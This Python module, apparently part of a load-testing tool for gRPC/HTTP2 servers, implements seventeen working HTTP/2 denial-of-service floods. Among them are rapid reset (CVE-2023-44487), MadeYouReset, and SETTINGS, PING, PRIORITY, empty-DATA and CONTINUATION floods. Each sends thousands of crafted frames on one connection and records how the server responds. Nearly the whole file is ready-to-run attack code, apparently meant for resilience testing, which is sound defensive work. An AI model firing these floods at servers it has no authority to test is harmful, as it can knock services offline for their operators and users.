"""Floods: many cheap frames on one connection, each of which costs the server more than the client."""

from __future__ import annotations

import asyncio
import itertools
from collections import Counter
from collections.abc import Iterable, Iterator

from loadtest.hostile import hpack
from loadtest.hostile.attacks import Aim, Attack, Outcomes
from loadtest.hostile.connection import Connection, connected, head, headers_frame, request
from loadtest.hostile.frames import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PRIORITY,
    frame,
    grpc_message,
    rst_stream,
    settings,
    window_update,
)

FRAMES = 20_000
AT_ONCE = 200  # frames of one write
DRAIN_S = 3.0
PING_FRAME = frame(PING, 0, 0, b"12345678")


async def rapid_reset(aim: Aim) -> Outcomes:
    """Opens a stream and resets it at once, again and again (CVE-2023-44487)."""
    return await _flood(aim, (headers_frame(stream, aim.service.main) + rst_stream(stream) for stream in _streams()))


async def rapid_reset_with_body(aim: Aim) -> Outcomes:
    """The same with whole requests, whose handlers start."""
    body = grpc_message(aim.service.unary[aim.service.main])
    requests = (request(stream, aim.service.main, body) + rst_stream(stream) for stream in _streams())
    return await _flood(aim, requests, count=5_000)


async def server_reset(aim: Aim) -> Outcomes:
    """Makes the server reset streams: each has an update of its window by 0 (CVE-2025-8671, MadeYouReset)."""
    frames = (headers_frame(stream, aim.service.main) + window_update(stream, 0) for stream in _streams())
    return await _flood(aim, frames, count=5_000)


async def too_many_streams(aim: Aim) -> Outcomes:
    """Opens more streams than the server allows, and sends no body."""
    return await _flood(aim, (headers_frame(stream, aim.service.main) for stream in _streams()), count=5_000)


async def settings_flood(aim: Aim) -> Outcomes:
    """Changes the settings again and again; each change must be acknowledged (CVE-2019-9515)."""
    changes = (settings(initial_window_size=size) for size in itertools.cycle((0, 65535, 2**31 - 1)))
    return await _flood(aim, changes)


async def settings_flood_on_streams(aim: Aim) -> Outcomes:
    """The same while 100 streams are open: each change of the window concerns each of them."""
    opening = b"".join(headers_frame(2 * number + 1, aim.service.main) for number in range(100))
    changes = (settings(initial_window_size=size) for size in itertools.cycle((0, 65535, 2**31 - 1)))
    return await _flood(aim, itertools.chain([opening], changes))


async def header_table_flood(aim: Aim) -> Outcomes:
    """Changes the size of the server's own header table again and again."""
    return await _flood(aim, (settings(header_table_size=size) for size in itertools.cycle((0, 2**32 - 1, 4096))))


async def ping_flood(aim: Aim) -> Outcomes:
    """Sends PING and reads the acknowledgements (CVE-2019-9512)."""
    return await _flood(aim, itertools.repeat(PING_FRAME))


async def unread_ping_flood(aim: Aim) -> Outcomes:
    """Sends PING and does not read, so that acknowledgements gather in the server."""
    return await _flood(aim, itertools.repeat(PING_FRAME), count=200_000, reads=False)


async def unread_settings_flood(aim: Aim) -> Outcomes:
    """Sends SETTINGS and does not read."""
    return await _flood(aim, itertools.repeat(settings()), count=200_000, reads=False)


async def priority_flood(aim: Aim) -> Outcomes:
    """Changes priorities (CVE-2019-9513)."""
    frames = (frame(PRIORITY, 0, stream, b"\0\0\0\0\x10") for stream in _streams())
    return await _flood(aim, frames)


async def reset_flood(aim: Aim) -> Outcomes:
    """Resets one stream again and again."""
    return await _flood(aim, itertools.chain([headers_frame(1, aim.service.main)], itertools.repeat(rst_stream(1))))


async def window_update_flood(aim: Aim) -> Outcomes:
    """Gives the server a window of one byte more, again and again."""
    return await _flood(aim, itertools.repeat(window_update(0, 1)))


async def unknown_frame_flood(aim: Aim) -> Outcomes:
    """Sends frames of an unknown type, which a server must ignore."""
    return await _flood(aim, itertools.repeat(frame(0x63, 0, 0, b"abc")))


async def empty_data_flood(aim: Aim) -> Outcomes:
    """Sends DATA without content (CVE-2019-9518)."""
    return await _flood(aim, itertools.chain([headers_frame(1, aim.service.main)], itertools.repeat(frame(DATA, 0, 1))))


async def continuation_flood(aim: Aim) -> Outcomes:
    """Sends headers that do not end: 100 MB in CONTINUATION frames (VU#421644)."""
    more = frame(CONTINUATION, 0, 1, hpack.literal(b"a" * 20, b"b" * 980))
    begin = frame(HEADERS, 0, 1, hpack.block(head(aim.service.main)))
    return await _flood(aim, itertools.chain([begin], itertools.repeat(more)), count=100_000)


async def empty_continuation_flood(aim: Aim) -> Outcomes:
    """The same without content."""
    begin = frame(HEADERS, 0, 1, hpack.block(head(aim.service.main)))
    return await _flood(aim, itertools.chain([begin], itertools.repeat(frame(CONTINUATION, 0, 1))))


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


async def _flood(aim: Aim, frames: Iterable[bytes], count: int = FRAMES, *, reads: bool = True) -> Outcomes:
    """Sends `count` of the frames on one connection, unless the server closes it."""
    async with connected(aim.target) as connection:
        await connection.greet()
        reader = asyncio.create_task(connection.until_closed(60.0)) if reads else None
        remaining, sent = itertools.islice(frames, aim.times(count)), 0
        while chunk := list(itertools.islice(remaining, AT_ONCE)):
            try:
                async with asyncio.timeout(DRAIN_S):  # the server may have stopped to read
                    await connection.send(b"".join(chunk))
            except TimeoutError:
                break
            sent += len(chunk)
            if connection.writer.transport.is_closing() or (reader is not None and reader.done()):
                break
        return Counter({"sent": sent, await _fate(connection, reader): 1})


async def _fate(connection: Connection, reader: asyncio.Task[bool] | None) -> str:
    if reader is None:
        return "not read"
    await asyncio.wait((reader,), timeout=0.5)
    is_closed = reader.done()
    reader.cancel()
    if connection.went_away is not None:
        return f"GOAWAY {connection.went_away[0]} {connection.went_away[1].decode(errors='replace')}"
    return "closed" if is_closed else "open"


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        rapid_reset_with_body,
        server_reset,
        too_many_streams,
        settings_flood,
        settings_flood_on_streams,
        header_table_flood,
        ping_flood,
        unread_ping_flood,
        unread_settings_flood,
        priority_flood,
        reset_flood,
        window_update_flood,
        unknown_frame_flood,
        empty_data_flood,
        continuation_flood,
        empty_continuation_flood,
    )
}
